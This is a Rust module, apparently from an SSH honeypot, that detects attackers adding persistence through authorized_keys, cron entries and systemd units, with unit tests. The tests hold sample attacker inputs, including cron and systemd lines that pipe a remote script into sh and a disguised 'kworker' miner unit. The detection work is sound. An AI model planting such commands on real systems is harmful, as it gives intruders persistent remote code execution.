@@ -0,0 +1,414 @@
+//! Spots clients adding their own keys to `authorized_keys`, jobs to cron or services to
+//! systemd, so they can get back in later.
+
+use std::path::Path;
+
+use pisshoff_types::audit::{
+    AuthorizedKey, CronEntry, PersistenceAttemptEvent, PersistenceMechanism,
+};
+
+/// Key types `sshd` accepts, used to find where any options at the start of a line end.
+const KEY_TYPES: &[&str] = &[
+    "ssh-ed25519",
+    "ssh-rsa",
+    "ssh-dss",
+    "ecdsa-sha2-nistp256",
+    "ecdsa-sha2-nistp384",
+    "ecdsa-sha2-nistp521",
+    "sk-ssh-ed25519@openssh.com",
+    "sk-ecdsa-sha2-nistp256@openssh.com",
+];
+
+/// Directories `run-parts` executes the contents of on a schedule, along with the schedule.
+const PERIODIC_DIRECTORIES: &[(&str, &str)] = &[
+    ("/etc/cron.hourly", "@hourly"),
+    ("/etc/cron.daily", "@daily"),
+    ("/etc/cron.weekly", "@weekly"),
+    ("/etc/cron.monthly", "@monthly"),
+];
+
+/// Directories systemd loads system units from, in order of precedence.
+pub const UNIT_DIRECTORIES: &[&str] = &[
+    "/etc/systemd/system",
+    "/run/systemd/system",
+    "/lib/systemd/system",
+    "/usr/lib/systemd/system",
+];
+
+/// Where systemd loads the units of each user's own instance from, relative to their home.
+pub const USER_UNIT_DIRECTORY: &str = ".config/systemd/user";
+
+/// Suffixes of the unit types that can run a command, or cause one to be run.
+const UNIT_TYPES: &[&str] = &[".service", ".timer", ".socket", ".path"];
+
+/// Checks whether a file written to `path` would give the client a way back in, parsing out
+/// what it was trying to add from `content` if so. Lines that can't be parsed are skipped, but
+/// the event is still returned even if nothing could be found since the attempt itself is worth
+/// knowing about.
+pub fn detect(path: &Path, content: &[u8]) -> Option<PersistenceAttemptEvent> {
+    let mechanism = authorized_keys(path, content)
+        .or_else(|| cron(path, content))
+        .or_else(|| systemd(path, content))?;
+
+    Some(PersistenceAttemptEvent {
+        path: path.to_string_lossy().into_owned().into_boxed_str(),
+        mechanism,
+    })
+}
+
+fn authorized_keys(path: &Path, content: &[u8]) -> Option<PersistenceMechanism> {
+    let name = path.file_name()?.to_str()?;
+    if name != "authorized_keys" && name != "authorized_keys2" {
+        return None;
+    }
+
+    let keys = String::from_utf8_lossy(content)
+        .lines()
+        .filter_map(parse_line)
+        .collect();
+
+    Some(PersistenceMechanism::AuthorizedKeys { keys })
+}
+
+fn cron(path: &Path, content: &[u8]) -> Option<PersistenceMechanism> {
+    let name = path.file_name()?.to_str()?;
+    let parent = path.parent()?;
+    let content = String::from_utf8_lossy(content);
+
+    // scripts in the periodic directories are run as a whole, rather than being crontabs
+    if let Some((_, schedule)) = PERIODIC_DIRECTORIES
+        .iter()
+        .find(|(dir, _)| parent == Path::new(dir))
+    {
+        return Some(PersistenceMechanism::Cron {
+            entries: vec![CronEntry {
+                schedule: (*schedule).into(),
+                user: Some("root".into()),
+                command: content.trim().into(),
+            }],
+        });
+    }
+
+    // the system-wide crontabs name the user each job runs as, whereas the per-user ones kept
+    // by `crontab` are named after the user instead
+    let user = if path == Path::new("/etc/crontab") || parent == Path::new("/etc/cron.d") {
+        None
+    } else if parent == Path::new("/var/spool/cron/crontabs")
+        || parent == Path::new("/var/spool/cron")
+    {
+        Some(name)
+    } else {
+        return None;
+    };
+
+    let entries = content
+        .lines()
+        .filter_map(|line| parse_cron_line(line, user))
+        .collect();
+
+    Some(PersistenceMechanism::Cron { entries })
+}
+
+fn systemd(path: &Path, content: &[u8]) -> Option<PersistenceMechanism> {
+    let name = path.file_name()?.to_str()?;
+    let parent = path.parent()?;
+
+    // drop-ins, as written by `systemctl edit`, extend the unit their directory is named after
+    let (unit, directory) = match parent.file_name().and_then(|v| v.to_str()) {
+        Some(dir) if name.ends_with(".conf") => (dir.strip_suffix(".d")?, parent.parent()?),
+        _ => (name, parent),
+    };
+
+    if !UNIT_TYPES.iter().any(|v| unit.ends_with(v)) || !is_unit_directory(directory) {
+        return None;
+    }
+
+    let mut commands = Vec::new();
+    let mut user = None;
+    let mut wanted_by = Vec::new();
+    let mut on_calendar = Vec::new();
+
+    for line in String::from_utf8_lossy(content).lines() {
+        let Some((key, value)) = line.split_once('=') else {
+            continue;
+        };
+
+        let value = value.trim();
+
+        match key.trim() {
+            // an empty value resets the list, which drop-ins do before replacing the command
+            _ if value.is_empty() => {}
+            "ExecStart" | "ExecStartPre" | "ExecStartPost" | "ExecReload" | "ExecStop"
+            | "ExecStopPost" => commands.push(value.into()),
+            "User" => user = Some(value.into()),
+            "WantedBy" | "RequiredBy" => wanted_by.extend(value.split_whitespace().map(Box::from)),
+            "OnCalendar" => on_calendar.push(value.into()),
+            _ => {}
+        }
+    }
+
+    Some(PersistenceMechanism::Systemd {
+        unit: unit.into(),
+        commands,
+        user,
+        wanted_by,
+        on_calendar,
+    })
+}
+
+/// Whether systemd would load units from `directory`, either as the system instance or a
+/// user's own.
+fn is_unit_directory(directory: &Path) -> bool {
+    UNIT_DIRECTORIES.iter().any(|v| directory == Path::new(v))
+        || directory.ends_with(USER_UNIT_DIRECTORY)
+}
+
+/// Parses a single line of an `authorized_keys` file, in the form `[options] type key
+/// [comment]`.
+fn parse_line(line: &str) -> Option<AuthorizedKey> {
+    let line = line.trim();
+    if line.is_empty() || line.starts_with('#') {
+        return None;
+    }
+
+    let start = find_key_type(line)?;
+    let options = line[..start].trim();
+    let mut rest = line[start..].splitn(3, char::is_whitespace);
+
+    let kind = rest.next()?;
+    let key = rest.next()?;
+    let comment = rest.next().map(str::trim).filter(|v| !v.is_empty());
+
+    Some(AuthorizedKey {
+        kind: kind.into(),
+        key: key.into(),
+        fingerprint: thrussh_keys::parse_public_key_base64(key)
+            .ok()
+            .map(|v| v.fingerprint().into_boxed_str()),
+        comment: comment.map(Box::from),
+        options: Some(options).filter(|v| !v.is_empty()).map(Box::from),
+    })
+}
+
+/// Parses a single line of a crontab, in the form `minute hour day month weekday [user]
+/// command`, where the user is only present in system-wide crontabs. `user` is the owner of
+/// the crontab if it's a per-user one.
+fn parse_cron_line(line: &str, user: Option<&str>) -> Option<CronEntry> {
+    let line = line.trim();
+    if line.is_empty() || line.starts_with('#') {
+        return None;
+    }
+
+    // environment variables set for the jobs that follow
+    if line
+        .split_whitespace()
+        .next()
+        .map_or(false, |v| v.contains('='))
+    {
+        return None;
+    }
+
+    let (schedule, mut rest) = if line.starts_with('@') {
+        let (nickname, rest) = next_field(line)?;
+        (nickname.to_string(), rest)
+    } else {
+        let mut fields = Vec::with_capacity(5);
+        let mut rest = line;
+
+        for _ in 0..5 {
+            let (field, next) = next_field(rest)?;
+            fields.push(field);
+            rest = next;
+        }
+
+        (fields.join(" "), rest)
+    };
+
+    let user = if let Some(user) = user {
+        user
+    } else {
+        let (user, next) = next_field(rest)?;
+        rest = next;
+        user
+    };
+
+    if rest.is_empty() {
+        return None;
+    }
+
+    Some(CronEntry {
+        schedule: schedule.into_boxed_str(),
+        user: Some(user.into()),
+        command: rest.into(),
+    })
+}
+
+/// Splits the first whitespace separated field off `s`, returning it along with the rest.
+fn next_field(s: &str) -> Option<(&str, &str)> {
+    let s = s.trim_start();
+    if s.is_empty() {
+        return None;
+    }
+
+    let (field, rest) = s.split_once(char::is_whitespace).unwrap_or((s, ""));
+    Some((field, rest.trim_start()))
+}
+
+/// Finds the offset of the key type within `line`, skipping over any options before it which
+/// may themselves contain quoted spaces.
+fn find_key_type(line: &str) -> Option<usize> {
+    let mut quoted = false;
+    let mut token_start = true;
+
+    for (i, c) in line.char_indices() {
+        if !quoted && token_start {
+            let rest = &line[i..];
+            if KEY_TYPES.iter().any(|v| {
+                rest.strip_prefix(v)
+                    .map_or(false, |v| v.starts_with(char::is_whitespace))
+            }) {
+                return Some(i);
+            }
+        }
+
+        match c {
+            '"' => quoted = !quoted,
+            c if c.is_whitespace() && !quoted => {
+                token_start = true;
+                continue;
+            }
+            _ => {}
+        }
+
+        token_start = false;
+    }
+
+    None
+}
+
+#[cfg(test)]
+mod test {
+    use std::path::Path;
+
+    use test_case::test_case;
+
+    use pisshoff_types::audit::PersistenceMechanism;
+
+    use super::{detect, parse_cron_line, parse_line};
+
+    #[test_case("ssh-rsa AAAAB3NzaC1yc2E mdrfckr", "ssh-rsa", "AAAAB3NzaC1yc2E", Some("mdrfckr"), None; "with comment")]
+    #[test_case("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5", "ssh-ed25519", "AAAAC3NzaC1lZDI1NTE5", None, None; "without comment")]
+    #[test_case("no-pty,command=\"echo ssh-rsa hi\" ssh-rsa AAAA root@box", "ssh-rsa", "AAAA", Some("root@box"), Some("no-pty,command=\"echo ssh-rsa hi\""); "with options")]
+    fn parses_lines(
+        input: &str,
+        kind: &str,
+        key: &str,
+        comment: Option<&str>,
+        options: Option<&str>,
+    ) {
+        let parsed = parse_line(input).unwrap();
+
+        assert_eq!(&*parsed.kind, kind);
+        assert_eq!(&*parsed.key, key);
+        assert_eq!(parsed.comment.as_deref(), comment);
+        assert_eq!(parsed.options.as_deref(), options);
+    }
+
+    #[test]
+    fn only_matches_authorized_keys() {
+        let content = b"# added\nssh-rsa AAAAB3NzaC1yc2E mdrfckr\n\nnot a key\n";
+
+        let event = detect(Path::new("/root/.ssh/authorized_keys"), content).unwrap();
+        assert_eq!(&*event.path, "/root/.ssh/authorized_keys");
+        let PersistenceMechanism::AuthorizedKeys { keys } = event.mechanism else {
+            panic!("expected authorized keys, got {:?}", event.mechanism);
+        };
+        assert_eq!(keys.len(), 1);
+        assert_eq!(&*keys[0].key, "AAAAB3NzaC1yc2E");
+
+        assert!(detect(Path::new("/root/.ssh/authorized_keys2"), content).is_some());
+        assert!(detect(Path::new("/root/.ssh/known_hosts"), content).is_none());
+    }
+
+    #[test_case("*/5 * * * * curl -fsSL http://x/a.sh | sh", None, "*/5 * * * *", "curl -fsSL http://x/a.sh | sh"; "user crontab")]
+    #[test_case("@reboot /tmp/.x/kswapd0", None, "@reboot", "/tmp/.x/kswapd0"; "nickname")]
+    #[test_case("0  3 * *   1 root  /usr/bin/updater --quiet", Some("root"), "0 3 * * 1", "/usr/bin/updater --quiet"; "system crontab")]
+    fn parses_cron_lines(input: &str, user: Option<&str>, schedule: &str, command: &str) {
+        // system-wide crontabs take the user from the line, per-user ones from the file name
+        let owner = if user.is_some() { None } else { Some("ubuntu") };
+        let parsed = parse_cron_line(input, owner).unwrap();
+
+        assert_eq!(&*parsed.schedule, schedule);
+        assert_eq!(parsed.user.as_deref(), Some(user.unwrap_or("ubuntu")));
+        assert_eq!(&*parsed.command, command);
+    }
+
+    #[test_case("/var/spool/cron/crontabs/root", 1; "debian spool")]
+    #[test_case("/var/spool/cron/root", 1; "centos spool")]
+    #[test_case("/etc/cron.d/updater", 0; "system crontab without a user")]
+    #[test_case("/etc/cron.hourly/updater", 1; "periodic script")]
+    fn matches_cron(path: &str, expected: usize) {
+        let content = b"SHELL=/bin/sh\n# m h dom mon dow command\n* * * * * /tmp/x\n";
+
+        let event = detect(Path::new(path), content).unwrap();
+        let PersistenceMechanism::Cron { entries } = event.mechanism else {
+            panic!("expected cron, got {:?}", event.mechanism);
+        };
+        assert_eq!(entries.len(), expected);
+    }
+
+    #[test]
+    fn matches_systemd_units() {
+        let content = b"[Unit]\nDescription=kworker\n\n[Service]\nUser=root\nExecStart=/usr/bin/.kworker -o pool:3333\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n";
+
+        let event = detect(Path::new("/etc/systemd/system/kworker.service"), content).unwrap();
+        let PersistenceMechanism::Systemd {
+            unit,
+            commands,
+            user,
+            wanted_by,
+            on_calendar,
+        } = event.mechanism
+        else {
+            panic!("expected systemd, got {:?}", event.mechanism);
+        };
+        assert_eq!(&*unit, "kworker.service");
+        assert_eq!(commands, [Box::from("/usr/bin/.kworker -o pool:3333")]);
+        assert_eq!(user.as_deref(), Some("root"));
+        assert_eq!(wanted_by, [Box::from("multi-user.target")]);
+        assert!(on_calendar.is_empty());
+
+        assert!(detect(
+            Path::new("/root/.config/systemd/user/kworker.service"),
+            content
+        )
+        .is_some());
+        assert!(detect(Path::new("/etc/systemd/system/kworker.conf"), content).is_none());
+        assert!(detect(Path::new("/tmp/kworker.service"), content).is_none());
+    }
+
+    #[test]
+    fn matches_systemd_drop_ins() {
+        let content = b"[Service]\nExecStart=\nExecStart=/bin/sh -c 'curl http://x/a.sh | sh'\n";
+
+        let event = detect(
+            Path::new("/etc/systemd/system/ssh.service.d/override.conf"),
+            content,
+        )
+        .unwrap();
+        let PersistenceMechanism::Systemd { unit, commands, .. } = event.mechanism else {
+            panic!("expected systemd, got {:?}", event.mechanism);
+        };
+        assert_eq!(&*unit, "ssh.service");
+        assert_eq!(
+            commands,
+            [Box::from("/bin/sh -c 'curl http://x/a.sh | sh'")]
+        );
+    }
+
+    #[test]
+    fn ignores_other_files() {
+        assert!(detect(Path::new("/etc/cron.allow"), b"root\n").is_none());
+        assert!(detect(Path::new("/var/spool/mail/root"), b"* * * * * /tmp/x\n").is_none());
+    }
+}